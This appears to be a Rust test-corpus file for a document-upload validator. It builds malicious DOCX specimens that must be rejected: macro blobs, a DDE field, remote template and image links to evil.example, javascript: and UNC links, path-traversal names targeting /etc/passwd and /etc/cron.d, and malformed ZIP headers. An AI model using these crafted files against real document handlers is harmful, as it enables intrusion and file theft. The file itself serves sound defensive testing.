//! Documents that must not be kept.

use threadwell_domain::attachment::{ContentRefusal, FileKind};

use super::{Docx, MAIN, document, instructions, minimal, parts, relationships, types};
use crate::corpus::{
    Specimen,
    zip::{Entry, archive},
};

const REJECTED: ContentRefusal = ContentRefusal::ArchiveRejected;
const MISMATCH: ContentRefusal = ContentRefusal::KindMismatch;

/// All of them.
pub fn attacks() -> Vec<Specimen> {
    let mut all = Vec::new();
    let documents = active()
        .into_iter()
        .chain(instructions::attacks())
        .chain(leading_out())
        .chain(parts::disguised())
        .chain(parts::xml())
        .chain(parts::wide())
        .chain(names())
        .chain(headers());
    for (name, docx) in documents {
        all.push(Specimen::refused(format!("DOCX, {name}"), FileKind::Docx, docx.finish(), REJECTED));
    }
    for (name, bytes, why) in containers().into_iter().chain(other_files()) {
        all.push(Specimen::refused(format!("DOCX, {name}"), FileKind::Docx, bytes, why));
    }
    all
}

fn related(kind: &str, target: &str, mode: &str) -> Docx {
    Docx::new().instead("word/_rels/document.xml.rels", &relationships(&[(kind, target, mode)]))
}

pub(super) fn part(content: &str) -> Docx {
    Docx::new().instead("word/document.xml", content)
}

pub(super) const DDE: &str = "<w:fldSimple w:instr=\" DDE a b\"/>";

fn active() -> Vec<(&'static str, Docx)> {
    let ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 and so on";
    let with = |name: &str, content: &[u8]| Docx::new().with(Entry::deflated(name, content));
    let typed = |types: String| Docx::new().instead("[Content_Types].xml", &types);
    let ordinary = "openxmlformats-officedocument.wordprocessingml.document";
    let macros = MAIN.replace(ordinary, "ms-word.document.macroEnabled");
    let extension =
        "<Override PartName=\"/word/a.xml\" ContentType=\"application/vnd.ms-office.webextension+xml\"/>";
    let control =
        "<Override PartName=\"/word/a.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\"/>";
    vec![
        ("macros", with("word/vbaProject.bin", ole)),
        ("macros without their magic number", with("word/vbaProject.bin", b"x")),
        ("macros under another name", with("word/media/image1.png", ole)),
        ("macros by relationship", related("vbaProject", "media/a.png", "")),
        ("type of extensions", typed(types(MAIN, extension))),
        ("type with macros", typed(types(&macros, ""))),
        ("controls", typed(types(MAIN, control))),
        ("program", with("word/embeddings/a.xlsx", &program())),
        ("program of another system", with("word/embeddings/a.xlsx", b"\x7fELF\x02\x01\x01")),
        ("embedded object", with("word/embeddings/oleObject1.bin", b"x")),
        ("embedded object by relationship", related("oleObject", "embeddings/a.xlsx", "")),
        ("HTML taken in", related("aFChunk", "a.htm", "")),
        ("extension from the web", related("webextension", "webextensions/a.xml", "")),
        ("extensions from the web", related("webextensiontaskpanes", "webextensions/a.xml", "")),
        ("program in a simple field", part(&document(DDE))),
    ]
}

fn program() -> Vec<u8> {
    let mut program = vec![0; 0x100];
    program[..2].copy_from_slice(b"MZ");
    program[0x3c] = 0x80;
    program[0x80..0x84].copy_from_slice(b"PE\0\0");
    program
}

fn leading_out() -> Vec<(&'static str, Docx)> {
    let external = |kind: &str, target: &str| related(kind, target, "External");
    vec![
        ("template elsewhere", external("attachedTemplate", "https://evil.example/a.dotm")),
        ("template on a share", external("attachedTemplate", "file://///evil/share/a.dotm")),
        ("picture elsewhere", external("image", "https://evil.example/a.png")),
        ("object elsewhere", external("oleObject", "https://evil.example/a")),
        ("frame elsewhere", external("frame", "https://evil.example/a")),
        ("link to a file", external("hyperlink", "file:///c:/windows/system32/calc.exe")),
        ("link to a share", external("hyperlink", "\\\\evil\\share\\a.docx")),
        ("link to a script", external("hyperlink", "javascript:alert(1)")),
        ("mode written in numbers", related("image", "https://evil.example/a.png", "&#69;xternal")),
        ("link that says it stays", related("image", "file://evil/share/a.png", "Internal")),
        ("link out of the container", related("image", "../../../etc/passwd", "")),
    ]
}

fn names() -> Vec<(&'static str, Docx)> {
    let named = |name: &str| Docx::new().with(Entry::stored(name, b"x"));
    let mode = |mode| Docx::new().with(Entry { mode, ..Entry::stored("word/link", b"/etc/passwd") });
    let mut many = Docx::new();
    while many.0.len() < 201 {
        many.0.push(Entry::stored(&format!("word/media/{}.png", many.0.len()), b"x"));
    }
    vec![
        ("way out", named("../../x")),
        ("way out within", named("word/../../x")),
        ("way out, backwards", named("..\\..\\x")),
        ("absolute path", named("/etc/cron.d/x")),
        ("drive", named("C:/x")),
        ("no name", named("")),
        ("NUL in a name", named("word/a.png\0.exe")),
        ("same name twice", named("word/document.xml")),
        ("same name in capitals", named("WORD/Document.XML")),
        ("symbolic link", mode(0o120_777)),
        ("device", mode(0o060_600)),
        ("201 entries", many),
    ]
}

/// A field of ZIP: the name in Unicode, its checksum left out.
const OTHER_NAME: &[u8] = b"\x75\x70\x06\0\x01\0\0\0\0x";

fn headers() -> Vec<(&'static str, Docx)> {
    let entry = || Entry::deflated("word/media/a.png", b"a picture, a picture, a picture");
    let with = |entry: Entry| Docx::new().with(entry);
    let longer = [entry().packed, b"hidden".to_vec()].concat();
    vec![
        ("other name in front", with(Entry { local_name: Some("word/media/b.png".into()), ..entry() })),
        ("other name behind the name", with(Entry { extra: OTHER_NAME.to_vec(), ..entry() })),
        ("smaller than it says", with(Entry { size: 1000, ..entry() })),
        ("larger than it says", with(Entry { size: 3, ..entry() })),
        ("wrong checksum", with(Entry { checksum: 1, ..entry() })),
        ("unknown method", with(Entry { method: 12, ..entry() })),
        ("unknown flag", with(Entry { flags: 0x0020, ..entry() })),
        ("hidden behind packed data", with(Entry { packed: longer, ..entry() })),
    ]
}

fn containers() -> Vec<(&'static str, Vec<u8>, ContentRefusal)> {
    let file = minimal();
    let directory = file.windows(4).position(|word| word == b"PK\x01\x02").unwrap();
    let between = [&file[..directory], b"hidden", &file[directory..]].concat();
    let mut comment = file.clone();
    let last = comment.len() - 2;
    comment[last] = 5;
    comment.extend_from_slice(b"hello");
    let mut moved = between.clone();
    let place = moved.len() - 6;
    moved[place..place + 4].copy_from_slice(&(directory as u32 + 6).to_le_bytes());
    vec![
        ("something before the directory", between, REJECTED),
        ("something between data and directory", moved, REJECTED),
        ("something behind the end", [&file[..], b"x"].concat(), REJECTED),
        ("comment", comment, REJECTED),
        ("cut off", file[..file.len() - 30].to_vec(), REJECTED),
        ("directory alone", [b"PK\x03\x04", &file[directory..]].concat(), REJECTED),
    ]
}

/// Containers that nobody can look into, and such as hold no document.
fn other_files() -> Vec<(&'static str, Vec<u8>, ContentRefusal)> {
    let locked = Docx::new().with(Entry { flags: 1, ..Entry::stored("word/locked.bin", b"x") }).finish();
    let package: Vec<u8> = "EncryptedPackage".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let password = [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".as_slice(), &[0; 500], &package, &[0; 500]].concat();
    let without = |name: &str| {
        let entries = Docx::new().0.into_iter().filter(|entry| entry.name != name);
        archive(&entries.collect::<Vec<_>>())
    };
    let template = MAIN.replace("document.main", "template.main");
    vec![
        ("encrypted entry", locked, ContentRefusal::Encrypted),
        ("encrypted with a password", password, ContentRefusal::Encrypted),
        ("no document", without("_rels/.rels"), MISMATCH),
        ("no document part", without("word/document.xml"), MISMATCH),
        ("no types", without("[Content_Types].xml"), MISMATCH),
        ("any archive", archive(&[Entry::stored("a.txt", b"x")]), MISMATCH),
        ("template", Docx::new().instead("[Content_Types].xml", &types(&template, "")).finish(), MISMATCH),
    ]
}
